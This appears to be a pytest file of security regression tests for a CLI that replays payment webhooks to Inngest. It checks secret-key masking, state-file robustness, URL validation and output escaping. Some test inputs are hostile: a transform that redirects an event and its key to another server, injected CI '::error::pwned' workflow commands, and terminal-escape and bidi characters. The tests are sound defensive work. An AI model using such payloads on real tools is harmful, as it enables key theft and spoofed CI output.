"""The hostile-input issue, items on replay state, secrets, URLs, replies and reports: each test
reproduces an attack that broke the tool, and is named by the issue's item number."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path
from xml.etree import ElementTree

import pytest
from inngest_server import Fault, InngestServer
from test_capture import body_for, counts, write_capture

from dodo_inngest_cli.client import EventClient, Target, request_headers
from dodo_inngest_cli.errors import InputError
from dodo_inngest_cli.replay import MAX_STATE_LINE, StateFile

from conftest import ROOT, TRANSFORMS, WEBHOOKS, RunCli

PAYMENT = str(TRANSFORMS / "payment.js")
SAMPLE = str(WEBHOOKS / "payment.succeeded.json")


def replay(cli: RunCli, capture: Path, *args: str, code: int = 0) -> dict[str, int]:
    result = cli("replay", str(capture), "-t", PAYMENT, "--no-dodo-check", *args, code=code)
    return counts(result.stdout)


# -- 8. a target is the whole target ----------------------------------------------------------


def test_item08_another_branch_env_is_another_target(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 3)
    with InngestServer() as inngest:
        target = ["--url", f"{inngest.url}/e/key-0000-AAAA"]
        assert replay(cli, capture, *target, "--inngest-env", "feature-a")["accepted"] == 3
        assert replay(cli, capture, *target, "--inngest-env", "feature-b")["accepted"] == 3
        assert replay(cli, capture, *target, "--inngest-env", "feature-b")["skipped"] == 3
        assert [r.headers["x-inngest-env"] for r in inngest.received] == \
            ["feature-a"] * 3 + ["feature-b"] * 3


def test_item08_keys_that_mask_alike_are_two_targets(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 2)
    with InngestServer() as inngest:
        first = replay(cli, capture, "--url", f"{inngest.url}/e/first-key-SAME")
        second = replay(cli, capture, "--url", f"{inngest.url}/e/other-key-SAME")
        short = replay(cli, capture, "--url", f"{inngest.url}/e/k1")
        shorter = replay(cli, capture, "--url", f"{inngest.url}/e/k2")
        assert [c["accepted"] for c in (first, second, short, shorter)] == [2, 2, 2, 2]
        assert len(inngest.received) == 8
    state = (tmp_path / ".dodo-inngest-replay-state.jsonl").read_text()
    for key in ("first-key-SAME", "other-key-SAME", "k1", "k2", "SAME"):
        assert key not in state


def test_item08_an_old_state_file_is_refused_with_a_reason(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 1)
    old = tmp_path / "old.jsonl"
    old.write_text(json.dumps({"delivery": "msg_000000", "target": "http://x/e/****", "status":
                               "delivered", "ids": [], "reason": "", "at": "t"}) + "\n")
    result = cli("replay", str(capture), "-t", PAYMENT, "--dev", "--state", str(old), code=2)
    assert result.stderr == (
        f"error: {old}: a state file from an older dodo-inngest, which stored targets masked "
        "(two keys that mask alike would count as one target)\n"
        "hint: move it away and replay again: deliveries it recorded are sent again, and "
        "Inngest skips the ones it has through their event ids\n")


# -- 9. a plain payload file is identified by its content, not its name -----------------------


def test_item09_two_files_named_alike_are_two_deliveries(cli: RunCli, tmp_path: Path) -> None:
    for folder, index in (("a", 1), ("b", 2)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "payment.json").write_text(body_for(index))
    with InngestServer() as inngest:
        result = replay(cli, tmp_path / "a" / "payment.json", str(tmp_path / "b" / "payment.json"),
                        "--url", f"{inngest.url}/e/k", "--state", str(tmp_path / ".s.jsonl"),
                        "--no-assign-id")
        assert result["accepted"] == 2
        ids = [r.event["id"] for r in inngest.received]
    assert len(set(ids)) == 2 and all("pay_00000" in i for i in ids)


def test_item09_the_assigned_event_id_follows_the_content(cli: RunCli, tmp_path: Path) -> None:
    transform = tmp_path / "noid.js"
    transform.write_text("function handler(w) { w.payload = {name: 'dodo/' + w.eventType, "
                         "data: {}}; return w; }")
    for folder, index in (("a", 1), ("b", 2)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "payment.json").write_text(body_for(index))
    with InngestServer() as inngest:
        cli("replay", str(tmp_path / "a"), str(tmp_path / "b"), "-t", str(transform), "--url",
            f"{inngest.url}/e/k", "--state", str(tmp_path / ".s.jsonl"), "--no-dodo-check",
            code=0)
        ids = sorted(r.event["id"] for r in inngest.received)
    assert len(set(ids)) == 2 and all(i.startswith("dodo-body-") for i in ids)


# -- 10. torn and garbage state lines ---------------------------------------------------------


def test_item10_a_torn_last_line_is_ended_before_appending(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 3)
    with InngestServer() as inngest:
        target = ["--url", f"{inngest.url}/e/k", "--id", "msg_000000"]
        replay(cli, capture, *target)
        state = tmp_path / ".dodo-inngest-replay-state.jsonl"
        with state.open("a") as handle:
            handle.write('{"delivery": "msg_000001", "target": "ab')  # killed mid-write
        result = cli("replay", str(capture), "-t", PAYMENT, "--no-dodo-check", "--url",
                     f"{inngest.url}/e/k", code=0)
        assert counts(result.stdout)["accepted"] == 2
        again = replay(cli, capture, "--url", f"{inngest.url}/e/k")
        assert (again["accepted"], again["skipped"]) == (0, 3)
    assert "warning: state file: the last line was torn (a crash mid-write); it is ended and " \
           "ignored" in result.stderr
    lines = state.read_text().splitlines()
    assert all(json.loads(line) for line in lines if not line.endswith('"ab'))


def test_item10_a_huge_garbage_line_is_skipped_without_being_read_whole(
        tmp_path: Path) -> None:
    state = tmp_path / "s.jsonl"
    first = StateFile(state)
    first.close()
    with state.open("a") as handle:
        handle.write("x" * (100 * MAX_STATE_LINE) + "\n")
        handle.write('{"delivery": "d", "target": "t", "outcome": "accepted"}\n')
        handle.write("not json\n")
    tracemalloc.start()
    loaded = StateFile(state)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    loaded.close()
    assert peak < 16 * MAX_STATE_LINE  # the line itself is 100 times that
    assert loaded.accepted("d", "t")
    assert loaded.problems == ["line 2 is not a state record; ignored",
                               "line 4 is not a state record; ignored"]


def test_item10_a_file_that_is_not_a_state_file_is_refused(tmp_path: Path) -> None:
    state = tmp_path / "s.jsonl"
    state.write_text("hello\n")
    with pytest.raises(InputError) as caught:
        StateFile(state)
    assert caught.value.message == (f"{state}: not a replay state file (its first line is not "
                                    "a dodo-inngest state header)")


# -- 11. one replay per state file -------------------------------------------------------------


def test_item11_a_second_replay_on_the_same_state_says_who_holds_it(
        cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 1)
    state = tmp_path / ".dodo-inngest-replay-state.jsonl"
    holder = StateFile(state)
    try:
        result = cli("replay", str(capture), "-t", PAYMENT, "--dev", code=2)
    finally:
        holder.close()
    first, hint = result.stderr.splitlines()
    assert first.startswith(f"error: {state}: another replay is using this state file (pid "
                            f"{os.getpid()} of ")
    assert hint == "hint: wait for it to finish, or give this run its own --state"
    # the holder, closed, no longer claims the file; the next run takes it
    assert not (tmp_path / ".dodo-inngest-replay-state.jsonl.owner").exists()
    StateFile(state).close()


# -- 12. the state file is never a capture ------------------------------------------------------


def test_item12_state_pointing_at_the_capture_is_refused(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 1)
    before = capture.read_bytes()
    result = cli("replay", str(capture), "-t", PAYMENT, "--dev", "--state", str(capture),
                 code=2)
    assert result.stderr == (f"error: --state {capture}: that is a capture being replayed\n"
                             "hint: the state file is written to; give it its own name\n")
    assert capture.read_bytes() == before


def test_item12_state_inside_a_replayed_folder_is_refused(cli: RunCli, tmp_path: Path) -> None:
    write_capture(tmp_path / "c.jsonl", 1)
    result = cli("replay", str(tmp_path), "-t", PAYMENT, "--dev", "--state",
                 str(tmp_path / "state.jsonl"), code=2)
    assert result.stderr.startswith(f"error: --state {tmp_path / 'state.jsonl'}: it lies in the "
                                    "folder being replayed and would be read as a capture\n")


# -- 13. Ctrl-C ends every wait at once ------------------------------------------------------


def interrupt_after(command: list[str], seconds: float) -> tuple[int, float, str, str]:
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True, cwd=ROOT, env={**os.environ, "NO_COLOR": "1"})
    time.sleep(seconds)
    sent = time.monotonic()
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=30)
    return process.returncode, time.monotonic() - sent, out, err


@pytest.mark.parametrize("command", ["send", "replay"])
def test_item13_ctrl_c_ends_a_retry_after_wait_at_once(command: str, tmp_path: Path) -> None:
    with InngestServer() as inngest:
        inngest.fail_next(Fault("status", 429, retry_after="120"))
        extra = ["--state", str(tmp_path / ".s.jsonl")] if command == "replay" else []
        code, waited, _out, err = interrupt_after(
            [sys.executable, "-m", "dodo_inngest_cli", command, SAMPLE, "-t", PAYMENT, "--url",
             f"{inngest.url}/e/k", *extra], 2.0)
    assert (code, err.splitlines()[-1]) == (130, "error: interrupted")
    assert waited < 2.0


def test_item13_ctrl_c_does_not_wait_for_a_request_stuck_in_its_read(tmp_path: Path) -> None:
    # An Inngest that takes the request and never answers, with a long --timeout: after the
    # grace, the stuck request is left (unrecorded: it goes again next run), not waited for.
    import socket

    capture = tmp_path / "c.jsonl"
    write_capture(capture, 1)
    state = tmp_path / ".s.jsonl"
    silent = socket.create_server(("127.0.0.1", 0))
    try:
        code, waited, out, err = interrupt_after(
            [sys.executable, "-m", "dodo_inngest_cli", "replay", str(capture), "-t", PAYMENT,
             "--no-dodo-check", "--timeout", "60", "--state", str(state), "--url",
             f"http://127.0.0.1:{silent.getsockname()[1]}/e/k"], 1.5)
    finally:
        silent.close()
    assert (code, err) == (130, "")
    assert waited < 5.0  # the grace (2 s), not the timeout (60 s)
    assert "interrupted: what finished is recorded" in out
    assert [line for line in state.read_text().splitlines()[1:]] == []  # header only


def test_item13_ctrl_c_ends_a_rate_limit_wait_at_once(tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 3)
    with InngestServer() as inngest:
        code, waited, out, _err = interrupt_after(
            [sys.executable, "-m", "dodo_inngest_cli", "replay", str(capture), "-t", PAYMENT,
             "--rate", "0.05", "--batch", "1", "--no-dodo-check", "--url",
             f"{inngest.url}/e/k"], 2.5)
        received = len(inngest.received)
    assert code == 130
    assert waited < 2.0
    assert "interrupted: what finished is recorded" in out
    assert received == 1


# -- 20. the event key never leaves the process unmasked -------------------------------------


LEAKY = ("function handler(w) {\n  console.log('url', w.url);\n"
         "  w.payload = {name: 'dodo/x.y', id: 'i', data: {u: w.url}};\n  return w;\n}\n")
THROWS = "function handler(w) { throw new Error('bad ' + w.url); }\n"


@pytest.mark.parametrize("key", ["sk-live-0123456789abcdef", "*starts-with-star-123456",
                                 "{braces}-key-1234567", "$dollar-key-12345678",
                                 "<angle>-key-12345678", "with space-key-123456"])
def test_item20_a_key_the_transform_echoes_is_masked_in_every_output(
        cli: RunCli, in_tmp: Path, key: str) -> None:
    (in_tmp / "leaky.js").write_text(LEAKY)
    (in_tmp / "throws.js").write_text(THROWS)
    args = ["--event-key", key, "--base-url", "https://inn.example"]
    outputs = [
        cli("send", "-t", "leaky.js", SAMPLE, *args, "--dry-run"),
        cli("send", "-t", "leaky.js", SAMPLE, *args, "--dry-run", "--format", "json"),
        cli("send", "-t", "throws.js", SAMPLE, *args, "--dry-run"),
    ]
    endpoint = ["--endpoint-url", f"https://inn.gs/e/{key}"]
    for extra in ([], ["--show-output"], ["--format", "json"], ["--format", "junit"],
                  ["--format", "github"]):
        outputs.append(cli("test", "-t", "leaky.js", "-s", SAMPLE, *endpoint, *extra))
        outputs.append(cli("test", "-t", "throws.js", "-s", SAMPLE, *endpoint, *extra))
    outputs.append(cli("run", "leaky.js", SAMPLE, *endpoint, "--request"))
    cli("test", "-t", "leaky.js", "-s", SAMPLE, *endpoint, "--snapshots", "snaps",
        "--update-snapshots", code=0)
    cli("test", "-t", "leaky.js", "-s", SAMPLE, *endpoint, "--snapshots", "snaps", code=0)
    written = "".join(p.read_text() for p in Path("snaps").rglob("*.json"))
    text = written + "".join(o.stdout + o.stderr for o in outputs)
    for form in (key, json.dumps(key)[1:-1], key.replace(" ", "%20")):
        assert form not in text
    assert "****" in written


def test_item20_a_server_that_echoes_the_key_is_masked(cli: RunCli, tmp_path: Path) -> None:
    key = "echoed-secret-key-0000abcd"
    with InngestServer(keys={"other"}) as inngest:
        inngest.echo_key = True
        sent = cli("send", "-t", PAYMENT, SAMPLE, "--url", f"{inngest.url}/e/{key}",
                   "--format", "json", code=1)
        capture = tmp_path / "c.jsonl"
        write_capture(capture, 1)
        replayed = cli("replay", str(capture), "-t", PAYMENT, "--url", f"{inngest.url}/e/{key}",
                       "--no-dodo-check", code=1)
    state = (tmp_path / ".dodo-inngest-replay-state.jsonl").read_text()
    document = json.loads(sent.stdout)
    assert document["events"][0]["error"] == "Event key ****abcd not found"
    for text in (sent.stdout, sent.stderr, replayed.stdout, replayed.stderr, state):
        assert key not in text
    assert "rejected: msg_000000: Event key ****abcd not found" in replayed.stderr


def test_item20_a_key_echoed_in_ids_never_reaches_the_state_file(cli: RunCli,
                                                                   tmp_path: Path) -> None:
    from inngest_server import Fault

    key = "echoed-in-ids-key-0000abcd"
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 1)
    with InngestServer() as inngest:
        inngest.fail_next(Fault("body", 200, body=f'{{"ids": ["id-{key}"]}}'.encode()))
        cli("replay", str(capture), "-t", PAYMENT, "--url", f"{inngest.url}/e/{key}",
            "--no-dodo-check", code=0)
    state = (tmp_path / ".dodo-inngest-replay-state.jsonl").read_text()
    assert key not in state and '"ids": ["id-****abcd"]' in state


def test_item20_a_url_password_is_masked(cli: RunCli) -> None:
    result = cli("send", "-t", PAYMENT, SAMPLE, "--url",
                 "https://user:hunter2-password@inn.example/e/key-abcdefgh-1234", "--dry-run")
    assert "hunter2" not in result.stdout + result.stderr
    assert "https://user:****@inn.example/e/****1234" in result.stdout


# -- 21. bad URLs and bad replies -------------------------------------------------------------


@pytest.mark.parametrize(("args", "stderr"), [
    (["--url", "http://[::1/e/secret-key-123456"],
     "error: --url http://[::1/e/****3456: not a valid URL (Invalid IPv6 URL)\n"),
    (["--base-url", "http://[::1", "--event-key", "k"],
     "error: base URL http://[::1: not a valid URL (Invalid IPv6 URL)\n"),
    (["--url", "http://a:b:c/e/secret-key-123456"],
     "error: --url http://a:b:c/e/****3456: not a valid URL (Port could not be cast to integer "
     "value as 'b:c')\n"),
    (["--url", "ftp://host/e/secret-key-123456"],
     "error: --url ftp://host/e/****3456: not an http(s) URL\n"),
])
def test_item21_a_bad_url_is_a_usage_error_naming_it(cli: RunCli, args: list[str],
                                                       stderr: str) -> None:
    result = cli("send", "-t", PAYMENT, SAMPLE, *args, code=2)
    assert result.stderr.splitlines()[0] + "\n" == stderr
    assert "secret-key" not in result.stderr


def test_item21_a_reply_nested_too_deeply_is_a_failed_delivery(tmp_path: Path) -> None:
    with InngestServer() as inngest:
        inngest.fail_next(Fault("body", 200, body=b"[" * 100_000))
        target = Target(url=f"{inngest.url}/e/k")
        with EventClient(retries=0) as client:
            answer = client.post(target, url=target.url, method="POST", body=b"{}", count=1,
                                 headers=request_headers(target, "1,AAAAAAAAAAAAAA=="))
    assert answer.ids == [""]
    assert answer.error.startswith("HTTP 200 with a body that is not Inngest's JSON "
                                   "(application/json): '[[[[")


# -- 22. every report format stays well-formed ------------------------------------------------


def test_item22_junit_with_control_characters_and_lone_surrogates_parses(
        cli: RunCli, in_tmp: Path) -> None:
    (in_tmp / "noisy.js").write_text(
        "function handler(w) { console.log('nul \\u0000 esc \\u001b[2J bell \\u0007 "
        "half \\ud83d'); throw new Error('ctl \\u001b]0;title\\u0007'); }\n")
    result = cli("test", "-t", "noisy.js", "-s", SAMPLE, "--format", "junit", code=1)
    root = ElementTree.fromstring(result.stdout.encode())
    err = root.find("testsuite/testcase/system-err")
    assert err is not None and err.text == (
        "console.log: nul \\x00 esc \\x1b[2J bell \\x07 half \\ud83d")
    text = cli("test", "-t", "noisy.js", "-s", SAMPLE, "--show-output", code=1).stdout
    assert "\x1b" not in text and "\x07" not in text and "\\x1b]0;title\\x07" in text
    document = json.loads(cli("test", "-t", "noisy.js", "-s", SAMPLE, "--format", "json",
                              code=1).stdout)
    assert document["results"][0]["console"][0]["text"] == (
        "nul \x00 esc \x1b[2J bell \x07 half \ud83d")


# -- found by an attack review after the items were fixed ---------------------------

# The rule only sending raises (tests/test_rules.py checks every rule has a trigger).
SENDING_RULES = {"url-offsite": "test_a_transform_cannot_send_the_event_elsewhere"}


def test_a_transform_cannot_send_the_event_elsewhere(cli: RunCli, tmp_path: Path) -> None:
    with InngestServer() as inngest, InngestServer() as elsewhere:
        redirect = tmp_path / "redirect.js"
        redirect.write_text(f"function handler(w) {{ w.url = '{elsewhere.url}/e/stolen-' + "
                            "encodeURIComponent(w.url);\n  w.payload = {name: 'dodo/x', id: 'r1',"
                            " data: {}}; return w; }")
        result = cli("send", "-t", str(redirect), SAMPLE, "--url",
                     f"{inngest.url}/e/RealSecretKey_98765", code=1)
        assert elsewhere.requests == [] and inngest.requests == []
    assert "url-offsite" in result.stderr and "RealSecretKey" not in result.stderr


def test_a_transform_cannot_switch_to_another_event_key(cli: RunCli, tmp_path: Path) -> None:
    # Same host, another key: another destination, refused as one, the key masked.
    with InngestServer() as inngest:
        other = tmp_path / "other.js"
        other.write_text("function handler(w) { w.url = w.url.replace(/e\\/.*/, 'e/' + "
                         "w.env.PROD_KEY);\n  w.payload = {name: 'dodo/x', id: 'r1', data: {}};"
                         " return w; }")
        result = cli("send", "-t", str(other), SAMPLE, "--url", f"{inngest.url}/e/testkey1234",
                     "--env", "PROD_KEY=prodsecret987654321", code=1)
        assert inngest.requests == []
    assert "url-offsite" in result.stderr
    assert "prodsecret98765" not in result.stdout + result.stderr


def test_a_transform_cannot_respell_where_events_go(tmp_path: Path) -> None:
    # Its own X-Inngest-Env or seed would send events elsewhere than the replay state says.
    headers = request_headers(Target("http://x/e/k", env="staging"), "1,abc",
                              {"X-Inngest-Env": "production", "X-Inngest-Event-Id-Seed": "2,x",
                               "Content-Type": "application/json; charset=utf-8",
                               "X-Custom": "yes"})
    assert headers == {"user-agent": headers["user-agent"],
                       "content-type": "application/json; charset=utf-8",
                       "x-inngest-event-id-seed": "1,abc", "x-inngest-env": "staging",
                       "x-custom": "yes"}


@pytest.mark.parametrize("branch", ["é", "a\nb", "two words"])
def test_a_branch_name_http_cannot_carry_is_refused(cli: RunCli, branch: str) -> None:
    result = cli("send", "-t", PAYMENT, SAMPLE, "--dev", "--inngest-env", branch, code=2)
    assert result.stderr == (f"error: --inngest-env {branch!r}: a branch environment's name is "
                             "printable ASCII with no spaces\nhint: e.g. --inngest-env "
                             "feature-billing (or INNGEST_ENV)\n")


def test_headers_http_cannot_carry_are_a_finding_and_the_replay_goes_on(
        cli: RunCli, tmp_path: Path) -> None:
    transform = tmp_path / "t.js"
    transform.write_text(
        "function handler(w) { const p = w.payload.data;\n"
        "  w.headers = {'x-customer': p.payment_id === 'pay_000001' ? 'José' : 'Jose'};\n"
        "  w.payload = {name: 'dodo/x', id: p.payment_id, data: {}}; return w; }")
    capture = tmp_path / "c.jsonl"
    write_capture(capture, 3)
    with InngestServer() as inngest:
        result = cli("replay", str(capture), "-t", str(transform), "--url",
                     f"{inngest.url}/e/k", "--batch", "1", "--no-dodo-check", code=1)
        assert sorted(r.event["id"] for r in inngest.received) == ["pay_000000", "pay_000002"]
    assert (counts(result.stdout)["accepted"], counts(result.stdout)["error"]) == (2, 1)
    assert "headers-invalid: the x-customer header's value is not printable ASCII" \
        in result.stderr


def test_a_key_cut_by_a_servers_error_is_masked_before_the_cut(cli: RunCli,
                                                               tmp_path: Path) -> None:
    key = "tVz3Ykq9X2mPaL7dNw4rQeHs8UbJc1FgKo6iRy5TnZxWvE0BdAuMhGjSpLfCqI2aYk9XrPt7_xyzw"
    page = f"<p>the key {key} is unknown</p>".encode()  # cut at 80 characters when shown
    with InngestServer() as inngest:
        inngest.fail_next(Fault("body", 401, body=page), Fault("body", 401, body=json.dumps(
            {"error": "x" * 1990 + key}).encode()))
        first = cli("send", "-t", PAYMENT, SAMPLE, "--url", f"{inngest.url}/e/{key}",
                    "--retries", "0", code=1)
        second = cli("send", "-t", PAYMENT, SAMPLE, "--url", f"{inngest.url}/e/{key}",
                     "--retries", "0", "--format", "json", code=1)
    for output in (first.stdout + first.stderr, second.stdout):
        assert key[:12] not in output


def test_escaping_writers_mask_before_they_escape(cli: RunCli, in_tmp: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    (in_tmp / "leak.js").write_text("function handler(w) { throw new Error('target ' + w.url); }")
    summary = in_tmp / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    key = "abcd_EFGH_ijkl&MNOP<qrst>UVWX_9876"
    junit = cli("test", "-t", "leak.js", "-s", SAMPLE, "--endpoint-url",
                f"https://inn.gs/e/{key}", "--format", "junit", code=1).stdout
    for escaped in (key, key.replace("_", "\\_"), key.replace("&", "&amp;").replace("<", "&lt;")
                    .replace(">", "&gt;")):
        assert escaped not in junit + summary.read_text()
    assert "\\*\\*\\*\\*9876" in summary.read_text()  # masked, then escaped for Markdown


def test_a_percent_encoding_spelled_another_way_is_masked(cli: RunCli) -> None:
    result = cli("send", "--dry-run", "--url", "https://inn.gs/e/abc%2fdefghijklmnop1234", "-t",
                 PAYMENT, SAMPLE, code=0)
    assert "defghijklmnop" not in result.stdout + result.stderr


def test_one_state_file_whatever_the_spelling_and_order_of_the_captures(
        cli: RunCli, tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text("")
    write_capture(tmp_path / "a.jsonl", 2)
    write_capture(tmp_path / "b.jsonl", 2, start=2)
    link = tmp_path / "elsewhere"
    link.symlink_to(tmp_path, target_is_directory=True)
    with InngestServer() as inngest:
        url = ["--url", f"{inngest.url}/e/k", "--no-dodo-check"]
        cli("replay", str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl"), "-t", PAYMENT, *url,
            code=0)
        again = [cli("replay", *paths, "-t", PAYMENT, *url, code=0).stdout for paths in (
            [str(tmp_path / "b.jsonl"), str(tmp_path / "a.jsonl")], [str(tmp_path)],
            [str(link / "a.jsonl"), str(link / "b.jsonl")])]
        spelled = cli("replay", str(tmp_path), "-t", PAYMENT, "--url",
                      f"{inngest.url.replace('127.0.0.1', '127.0.0.1')}/e/k/", "--no-dodo-check",
                      code=0).stdout
        assert len(inngest.received) == 4
    assert [counts(out)["skipped"] for out in [*again, spelled]] == [4, 4, 4, 4]


def test_a_record_of_thousands_of_ids_is_read_back(tmp_path: Path) -> None:
    from dodo_inngest_cli.outcomes import Outcome
    from dodo_inngest_cli.relay import Dispatch

    state = StateFile(tmp_path / "s.jsonl")
    state.record(Dispatch("big", "big", "", Outcome.ACCEPTED, ids=["01K" + "X" * 23] * 5000),
                 "t")
    state.close()
    reloaded = StateFile(tmp_path / "s.jsonl")
    reloaded.close()
    assert reloaded.accepted("big", "t") and reloaded.problems == []


def test_state_and_capture_files_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    from dodo_inngest_cli.capture import CaptureWriter

    StateFile(tmp_path / "s.jsonl").close()
    CaptureWriter(tmp_path / "c.jsonl").close()
    assert {oct((tmp_path / name).stat().st_mode & 0o777) for name in ("s.jsonl", "c.jsonl")} \
        == {"0o600"}


def test_hand_made_capture_lines_are_problems_not_crashes(cli: RunCli, tmp_path: Path) -> None:
    capture = tmp_path / "c.jsonl"
    capture.write_text('{"v":1,"id":"s1","headers":{"webhook-id":"a\\ud83d",'
                       '"webhook-timestamp":"1","webhook-signature":"v1,x"},"body":"{}"}\n'
                       + "[" * 100_000 + "\n")
    from test_capture import SECRET

    document = json.loads(cli("verify", str(capture), "--secret", SECRET, "--format", "json",
                              code=1).stdout)
    assert [(d["result"], d["reason"]) for d in document["deliveries"]] == [
        ("invalid", "the webhook-id or the body holds text that is not valid Unicode"),
        ("unreadable", "a JSON line nested too deeply to read; skipped")]


def test_samples_named_alike_in_two_folders_have_their_own_snapshots(
        cli: RunCli, in_tmp: Path) -> None:
    for folder, amount in (("a", 100), ("b", 200)):
        (in_tmp / "s" / folder).mkdir(parents=True)
        document = json.loads(Path(SAMPLE).read_text())
        document["data"]["total_amount"] = amount
        (in_tmp / "s" / folder / "payment.succeeded.json").write_text(json.dumps(document))
    cli("test", "-t", PAYMENT, "-s", "s", "--snapshots", "snaps", "--update-snapshots", code=0)
    cli("test", "-t", PAYMENT, "-s", "s", "--snapshots", "snaps", code=0)
    assert len(list(Path("snaps").rglob("*.json"))) == 2


def test_data_cannot_start_a_line_a_ci_runner_reads_as_a_command(cli: RunCli,
                                                                 in_tmp: Path) -> None:
    (in_tmp / "t.js").write_text(
        "function handler(w) { console.log('x\\n::error file=README.md,line=1::pwned');\n"
        "  throw new Error('y\\n::add-mask::z'); }")
    out = cli("test", "-t", "t.js", "-s", SAMPLE, code=1).stdout
    assert not any(line.startswith("::") for line in out.splitlines())
    assert "x\\n::error file=README.md,line=1::pwned" in out


@pytest.mark.skipif(sys.platform == "win32", reason="file names cannot hold line breaks")
def test_a_file_name_cannot_start_a_line_or_skew_a_table(cli: RunCli, in_tmp: Path) -> None:
    name = "x\n::error::pwned.js"  # the table's title, and a coverage column's header
    (in_tmp / name).write_text("function handler(w) { w.cancel = true; return w; }")
    out = cli("test", "-t", name, "-s", SAMPLE, code=0).stdout
    assert not any(line.startswith("::") for line in out.splitlines())
    assert out.startswith("x\\n::error::pwned.js\n")
    red = "e\x1b[31mred.js"
    (in_tmp / red).write_text("function handler(w) { w.cancel = true; return w; }")
    out = cli("coverage", "-t", red, "--event", "payment.succeeded").stdout
    header, rule = out.splitlines()[1:3]
    assert header.startswith("Event type        ┃ e\\x1b[31mred ┃")
    assert [i for i, c in enumerate(header) if c == "┃"] == \
        [i for i, c in enumerate(rule) if c == "╇"]  # measured as printed


def test_junit_escapes_bidirectional_overrides(cli: RunCli, in_tmp: Path) -> None:
    (in_tmp / "t.js").write_text("function handler(w) { throw new Error('a\\u202eb'); }")
    junit = cli("test", "-t", "t.js", "-s", SAMPLE, "--format", "junit", code=1).stdout
    assert "\u202e" not in junit and "a\\u202eb" in junit
